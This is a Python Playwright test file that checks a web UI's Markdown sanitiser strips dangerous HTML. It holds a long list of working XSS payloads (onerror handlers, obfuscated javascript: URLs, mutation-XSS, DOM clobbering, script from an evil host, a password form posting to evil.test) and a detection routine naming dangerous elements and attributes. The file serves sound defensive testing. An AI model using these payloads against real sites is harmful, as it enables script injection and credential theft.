"""gr.Markdown in the page: what the sanitiser lets into the DOM. The sanitiser walks the browser's own
parse, so these tests run in Chromium; the parser's own tests are in js/test/markdown.test.mjs."""

from __future__ import annotations

from playwright.sync_api import Locator, expect

from .harness import UI, node

# Payloads that must not run script or leave a dangerous element, attribute or URL in the page.
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnError=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<img/src=x/onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#0;javascript:alert(1))",
    "![x](javascript:alert(1))",
    '[x](javascript:alert(1) "t")',
    "<javascript:alert(1)>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil/x.js></SCRIPT>",
    "<script>alert(1)",
    "x <script>alert(1)</script> y",
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#x20;javascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    "<a href='vbscript:msgbox(1)'>x</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=x.swf></object><embed src=x.swf>",
    "<style>body{display:none}</style>",
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<input autofocus onfocus="alert(1)">',
    '<details open ontoggle="alert(1)">x</details>',
    '<video poster="javascript:alert(1)" src="x" onerror="alert(1)"></video>',
    '<p title="</p><img src=x onerror=alert(1)>">t</p>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    '<base href="javascript:/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<div style="background:url(javascript:alert(1))">s</div>',
    "**<img src=x onerror=alert(1)>**",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "- <a href=javascript:alert(1)>x</a>",
    "> <svg onload=alert(1)>",
    "[<img src=x onerror=alert(1)>](https://ok.test)",
    '<a href="https://ok.test" onclick="alert(1)">x</a>',
    '<div style="position:fixed;inset:0;z-index:9999">overlay</div>',
    '<img name="getElementById"><form name="cookie"><input name="x" id="y"></form>',
    '<a id="defaultView" href="#x">clobber</a>',
    "<template><img src=x onerror=alert(1)></template>",
    "<select><option><img src=x onerror=alert(1)></option></select>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
]

# Every element and attribute in the rendered markdown (but the control's) that should not be there.
PROBLEMS = """() => {
  const BAD = /^(script|style|iframe|object|embed|svg|math|form|button|base|meta|link|frame|frameset|noscript|template|textarea|select)$/;
  const problems = [];
  const proses = [...document.querySelectorAll(".nbb-prose")].filter((p) => !p.closest('[data-nbb-id="999"]'));
  for (const prose of proses) for (const el of prose.querySelectorAll("*")) {
    const where = el.outerHTML.slice(0, 100);
    if (BAD.test(el.localName)) problems.push(`element ${where}`);
    for (const { name, value } of el.attributes) {
      if (/^on|^(style|srcdoc|srcset|formaction|action|autofocus)$|^xlink/.test(name)) problems.push(`${name} in ${where}`);
      if (/^(id|name)$/.test(name) && !value.startsWith("user-content-")) problems.push(`${name} in ${where}`);
      if (/^(href|src|poster|data)$/.test(name)) {
        const protocol = new URL(value, location.href).protocol;
        const image = el.localName === "img" && name === "src" && /^data:image\\//i.test(value);
        if (!/^(https?|mailto):$/.test(protocol) && !image) problems.push(`${protocol} in ${where}`);
      }
    }
  }
  return { checked: proses.length, problems };
}"""


def _render(ui: UI, values: list[str], **props: object) -> None:
    ui.render(*(node(k + 1, "markdown", value=value, **props) for k, value in enumerate(values)))


def _prose(ui: UI, block_id: int) -> Locator:
    """The element holding the rendered markdown of a block (the block itself, or inside it)."""
    return ui.page.locator(f'.nbb-prose[data-nbb-id="{block_id}"], [data-nbb-id="{block_id}"] .nbb-prose')


def test_xss_payloads_leave_nothing_dangerous_in_the_dom(ui: UI) -> None:
    ui.page.evaluate("() => { window.pwned = []; window.alert = (x) => window.pwned.push(String(x)); }")
    for line_breaks in (False, True):
        # A markdown block with sanitize_html=False proves the page would run a payload that got through.
        control = node(999, "markdown", value="<img src=x onerror=alert('control')>", sanitize_html=False)
        ui.render(*(node(k + 1, "markdown", value=p, line_breaks=line_breaks) for k, p in enumerate(PAYLOADS)), control)
        expect(_prose(ui, 999)).to_be_attached()
        assert ui.page.evaluate(PROBLEMS) == {"checked": len(PAYLOADS), "problems": []}
        ui.page.wait_for_function("window.pwned.includes('control')")
        assert ui.page.evaluate("window.pwned.splice(0)") == ["control"]


def test_style_id_name_and_the_apps_classes_do_not_reach_the_dom(ui: UI) -> None:
    _render(ui, [
        '<div style="position:fixed;inset:0;background:red">overlay</div>',
        '<img id="nbb-clobber" name="clobbered" src="https://ok.test/a.png"><a name="anchor">a</a>',
        '<div class="nbb-connection mine nbb-box">banner</div>',
    ])  # fmt: skip
    overlay = ui.block(1).get_by_text("overlay")
    expect(overlay).to_be_visible()
    assert overlay.evaluate("el => el.hasAttribute('style')") is False
    # No element takes the ids or names the markdown gave, so globals and lookups cannot be clobbered.
    assert ui.page.evaluate("document.getElementById('nbb-clobber') === null && !('clobbered' in document)")
    assert ui.page.evaluate("!('clobbered' in window) && !('anchor' in window)")
    expect(ui.block(2).locator("img")).to_have_attribute("id", "user-content-nbb-clobber")
    expect(ui.block(2).locator("a")).to_have_attribute("name", "user-content-anchor")
    expect(ui.block(3).get_by_text("banner")).to_have_attribute("class", "mine")


def test_forms_frames_svg_handlers_and_script_urls_do_not_reach_the_dom(ui: UI) -> None:
    _render(ui, [
        '<form action="https://evil.test/"><input name="password"><button>Log in</button></form>',
        '<iframe src="https://evil.test/"></iframe>after',
        "<svg onload=alert(1)><circle r=5></circle></svg>svg gone",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">click</a> [md](javascript:alert(1))',
    ])  # fmt: skip
    page = ui.page
    expect(ui.block(1).get_by_text("Log in")).to_be_visible()  # the text stays, the form does not
    expect(page.locator(".nbb-prose form, .nbb-prose button, .nbb-prose iframe, .nbb-prose svg")).to_have_count(0)
    expect(_prose(ui, 2)).to_have_text("after")
    expect(_prose(ui, 3)).to_have_text("svg gone")
    expect(ui.block(4).locator("img")).to_have_attribute("src", "x")
    assert ui.block(4).locator("img").evaluate("img => img.getAttributeNames()") == ["src"]
    links = ui.block(5).locator("a")
    expect(links).to_have_text(["click", "md"])
    assert links.evaluate_all("links => links.map((a) => a.getAttribute('href'))") == [None, None]


def test_safe_markup_keeps_its_attributes(ui: UI) -> None:
    _render(ui, [
        '<img src="data:image/png;base64,AAAA" alt=\'a "b"\' width=10>',
        '<A HREF="https://ok.test" target=_self onclick=x>x</A> [rel](/rel?a=1&b=2) [in page](#section)',
        "x<y and List<int> here <!-- hidden -->",
        "- [x] done",
    ])  # fmt: skip
    img = ui.block(1).locator("img")
    expect(img).to_have_attribute("src", "data:image/png;base64,AAAA")
    expect(img).to_have_attribute("alt", 'a "b"')
    expect(img).to_have_attribute("width", "10")
    links = ui.block(2).locator("a")
    attrs = "links => links.map((a) => [a.getAttribute('href'), a.getAttribute('target'), a.getAttribute('rel')])"
    assert links.evaluate_all(attrs) == [
        ["https://ok.test", "_blank", "noopener noreferrer"],
        ["/rel?a=1&b=2", "_blank", "noopener noreferrer"],
        ["#section", None, None],
    ]
    # An unknown tag is dropped and its text kept; comments are dropped.
    assert _prose(ui, 3).evaluate("el => el.innerHTML") == "<p>x&lt;y and List here </p>"
    expect(ui.block(4).get_by_role("checkbox")).to_be_checked()
    expect(ui.block(4).get_by_role("checkbox")).to_be_disabled()


def test_sanitize_html_false_keeps_the_authors_markup(ui: UI) -> None:
    _render(ui, ['<span style="color: rgb(1, 2, 3)" id="mine">styled</span>'], sanitize_html=False)
    expect(ui.page.locator("#mine")).to_have_css("color", "rgb(1, 2, 3)")
